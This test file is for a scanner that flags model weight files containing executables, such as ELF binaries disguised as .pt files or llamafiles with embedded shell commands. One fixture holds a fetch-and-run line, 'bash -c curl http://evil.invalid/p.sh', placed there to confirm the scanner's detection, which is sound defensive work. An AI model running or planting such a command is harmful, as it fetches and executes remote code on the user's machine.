import { deepEqual } from 'node:assert/strict';
import { scanned } from './scanned';

describe('weights: programs', () => {
  it('are told by their first bytes, where weights should be', async () => {
    const elf = [0x7f, ...Buffer.from('ELF'), 2, 1, 1, ...Array.from({ length: 64 }, () => 0)];
    deepEqual(await scanned('model.pt', elf), ['program', 'dangerous: weights/program']);
    deepEqual((await scanned('firmware.bin', elf))[0], 'unrecognized');
  });

  it('are dangerous where they have a shell fetch something and run it', async () => {
    const start = `MZqFpD='\n${'x'.repeat(100)}`;
    deepEqual(await scanned('m.llamafile', `${start}\0bash -c curl http://evil.invalid/p.sh\0`), [
      'llamafile',
      'suspicious: weights/llamafile',
      'dangerous: weights/fetching-shell',
    ]);
    deepEqual((await scanned('m.llamafile', `${start}\0/bin/sh\0curl http://localhost:8080/v1`)).length, 2);
  });

  it('are expected in a llamafile', async () => {
    deepEqual(await scanned('m.llamafile', `MZqFpD='\n${'x'.repeat(100)}`), [
      'llamafile',
      'suspicious: weights/llamafile',
    ]);
  });
});
